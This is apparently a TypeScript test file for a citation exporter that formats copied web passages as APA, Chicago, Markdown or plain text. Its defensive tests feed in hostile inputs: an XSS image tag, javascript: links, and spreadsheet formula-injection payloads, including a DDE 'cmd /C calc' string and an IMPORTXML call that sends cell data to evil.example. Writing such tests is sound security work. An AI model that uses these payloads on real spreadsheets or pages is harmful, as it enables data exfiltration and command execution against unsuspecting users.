// Copy with source: the passage with speaker, outlet, author, date and the link back, in four formats.
import { describe, expect, it } from 'vitest';
import {
  apaReference,
  authorsOf,
  chicagoReference,
  citePassage,
  type CitedPassage,
} from '../../../core/export/citation';

const LINK = 'https://freebeacon.com/china-russia/#:~:text=32%20separate%20bilateral%20agreements';
const sample: CitedPassage = {
  passage: 'the two countries announced 32 separate bilateral agreements',
  speaker: null,
  title: 'China and Russia Strengthen Alliance',
  outlet: 'Washington Free Beacon',
  byline: 'By Jane Q. Doe and Sam Roe',
  published: '2015-05-11T10:00:00Z',
  link: LINK,
};

describe('authorsOf', () => {
  it.each([
    ['By Jane Doe', ['Jane Doe']],
    ['By Jane Doe and Sam Roe', ['Jane Doe', 'Sam Roe']],
    ['Jane Doe, Sam Roe & Al Poe', ['Jane Doe', 'Sam Roe', 'Al Poe']],
    ['By Jane Doe, Staff Writer', ['Jane Doe']],
    ['Associated Press', []],
    [null, []],
  ] as const)('%s', (byline, expected) => {
    expect(authorsOf(byline)).toEqual(expected);
  });
});

describe('references', () => {
  const cases: Record<string, { input: Partial<CitedPassage>; apa: string; chicago: string }> = {
    'two authors': {
      input: {},
      apa: `Doe, J. Q., & Roe, S. (2015, May 11). China and Russia Strengthen Alliance. Washington Free Beacon. ${LINK}`,
      chicago: `Doe, Jane Q., and Sam Roe. “China and Russia Strengthen Alliance.” Washington Free Beacon, May 11, 2015. ${LINK}.`,
    },
    'no author: the title leads': {
      input: { byline: null },
      apa: `China and Russia Strengthen Alliance. (2015, May 11). Washington Free Beacon. ${LINK}`,
      chicago: `“China and Russia Strengthen Alliance.” Washington Free Beacon, May 11, 2015. ${LINK}.`,
    },
    'no date': {
      input: { published: null, byline: 'By Jane Doe' },
      apa: `Doe, J. (n.d.). China and Russia Strengthen Alliance. Washington Free Beacon. ${LINK}`,
      chicago: `Doe, Jane. “China and Russia Strengthen Alliance.” Washington Free Beacon. ${LINK}.`,
    },
    'a title ending in a question mark keeps it': {
      input: { title: 'Is the Alliance Real?', outlet: null, byline: null },
      apa: `Is the Alliance Real? (2015, May 11). ${LINK}`,
      chicago: `“Is the Alliance Real?” May 11, 2015. ${LINK}.`,
    },
  };
  it.each(Object.entries(cases))('%s', (_name, c) => {
    const input = { ...sample, ...c.input };
    expect(apaReference(input)).toBe(c.apa);
    expect(chicagoReference(input)).toBe(c.chicago);
  });
});

describe('citePassage', () => {
  it('Markdown: the passage as a block quote, then speaker, linked title, outlet, authors and date', () => {
    const md = citePassage({ ...sample, speaker: 'Xi Jinping' }, 'markdown');
    expect(md).toBe(
      `> the two countries announced 32 separate bilateral agreements\n>\n> — Xi Jinping, [China and Russia Strengthen Alliance](${LINK}), Washington Free Beacon, Jane Q. Doe, Sam Roe, May 11, 2015`,
    );
  });
  it('Markdown never lets page text become markup', () => {
    const md = citePassage(
      { ...sample, passage: '<img src=x onerror=alert(1)> [x](javascript:y)', title: 'A [b](javascript:c)' },
      'markdown',
    );
    expect(md).not.toMatch(/(?<!\\)<img/);
    expect(md).not.toMatch(/(?<!\\)\](\(javascript:)/);
  });
  it('plain text: the passage in quotation marks, the source line and the link', () => {
    expect(citePassage(sample, 'plain')).toBe(
      `“the two countries announced 32 separate bilateral agreements”\n— China and Russia Strengthen Alliance, Washington Free Beacon, by Jane Q. Doe, Sam Roe, May 11, 2015\n${LINK}`,
    );
  });
  it('APA: the passage with an in-text citation, then the reference', () => {
    expect(citePassage(sample, 'apa').split('\n')[0]).toBe(
      '“the two countries announced 32 separate bilateral agreements” (Doe & Roe, 2015)',
    );
    expect(citePassage({ ...sample, byline: null, published: null }, 'apa').split('\n')[0]).toMatch(
      /\(China and Russia Strengthen Alliance, n\.d\.\)$/,
    );
  });
  it('Chicago: the passage, then the bibliography entry', () => {
    expect(citePassage(sample, 'chicago')).toBe(
      `“the two countries announced 32 separate bilateral agreements”\n\n${chicagoReference(sample)}`,
    );
  });
});

// Red team 37: a copied citation pasted into a spreadsheet is one cell per line, and a line the page made a formula of
// ran (the title `=HYPERLINK(…)` opens APA's reference when no author is named). Inputs as the red team wrote them.
describe('a copied citation starts no spreadsheet formula', () => {
  const formulaLines = (text: string): string[] => text.split('\n').filter((l) => /^[=+\-@\t\r＝＋－＠]/u.test(l));
  const hostile: Record<string, Partial<CitedPassage>> = {
    'a formula title': { title: '=HYPERLINK("https://evil.example/x","Read the source")', byline: null },
    'a plus title': { title: '+cmd|" /C calc"!A0', byline: null },
    'an at title': { title: '@SUM(1+1)*cmd|" /C calc"!A0', byline: null },
    'a full-width equals title': { title: '＝HYPERLINK("https://evil.example")', byline: null },
    'a formula word in the byline': { byline: 'By Jane Doe =HYPERLINK("https://evil.example")' },
    'a formula outlet': { outlet: '=IMPORTXML("https://evil.example/?"&A1,"//a")', byline: null },
  };
  for (const [name, over] of Object.entries(hostile))
    it.each(['markdown', 'plain', 'apa', 'chicago'] as const)(`${name}, %s`, (format) => {
      const text = citePassage({ ...sample, ...over }, format);
      expect(formulaLines(text)).toEqual([]);
      // The page's words are kept, shown as text: the reader sees what the page wrote.
      if (format === 'apa' && over.title) expect(text).toContain(over.title);
    });

  it('a byline word that starts a formula names no author, the name beside it still does', () => {
    expect(authorsOf('By Jane Doe =HYPERLINK("https://evil.example")')).toEqual([]);
    expect(authorsOf('By Jane Doe and =HYPERLINK("https://evil.example")')).toEqual(['Jane Doe']);
  });

  it('an honest citation is copied unchanged', () => {
    expect(citePassage(sample, 'apa')).not.toContain("'");
    expect(citePassage({ ...sample, title: "Ministers' pay - a guide" }, 'plain')).toContain(
      "Ministers' pay - a guide",
    );
  });
});
